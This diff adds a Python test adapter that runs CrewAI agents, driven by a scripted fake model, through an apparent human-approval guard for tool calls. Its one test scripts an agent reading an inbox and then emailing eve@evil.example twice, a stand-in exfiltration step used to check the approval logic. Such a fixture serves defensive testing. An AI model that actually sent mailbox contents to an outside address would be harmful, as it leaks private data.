@@ -1,0 +1,62 @@
+"""CrewAI, with a model of the tests'."""
+
+from __future__ import annotations
+
+import os
+from typing import Any
+
+os.environ.update(CREWAI_DISABLE_TELEMETRY="true", OTEL_SDK_DISABLED="true", CREWAI_TRACING_ENABLED="false")
+
+from crewai import Agent, BaseLLM, Crew, Task
+from crewai.tools import tool
+
+from remit_client.crewai import definitions, protect
+
+from .spec import READ, Adapter, Run, Script, openai_message, send
+
+
+class Scripted(BaseLLM):
+    script: Any = None
+    at: int = 0
+    seen: list[str] = []
+
+    def supports_function_calling(self) -> bool:
+        return True
+
+    def call(self, messages: Any, tools: Any = None, *args: Any, **kwargs: Any) -> Any:
+        self.seen = [str(message.get("content")) for message in messages if message.get("role") == "tool"]
+        step = self.script[self.at]
+        self.at += 1
+        message = openai_message(step, self.at)
+        return message.get("tool_calls") or message["content"]
+
+
+class TestCrew(Adapter):
+    # A tool is told its arguments alone.
+    knows_messages = False
+
+    def run(self, run: Run, *, protected: bool = True) -> None:
+        tools: Any = [tool(f.__name__)(f) for f in run.office.functions]
+        model = Scripted(model="scripted", script=run.script)
+        try:
+            if not protected:
+                self.go(model, tools, run)
+                return
+            with run.remit() as remit:
+                session = remit.session(tools=definitions(tools))
+                run.session = session.id
+                session.user(run.task)
+                self.go(model, protect(session, tools, approval_seconds=run.approval_seconds), run)
+        finally:
+            run.seen = model.seen
+
+    def go(self, model: Any, tools: Any, run: Run) -> None:
+        agent = Agent(role="assistant", goal="help", backstory="You help.", llm=model, tools=tools, max_retry_limit=0)
+        Crew(agents=[agent], tasks=[Task(description=run.task, expected_output="whether it is done", agent=agent)]).kickoff()
+
+
+def test_a_refused_call_is_decided_again() -> None:
+    """CrewAI keeps what tools return: a call that a person agrees to later still runs."""
+    run = Run([[READ], [send("eve@evil.example")], [send("eve@evil.example")], "Done."], approval_seconds=0)
+    TestCrew().run(run)
+    assert [event["call"]["tool"] for event in run.events("call")] == ["read_inbox", "send_email", "send_email"]
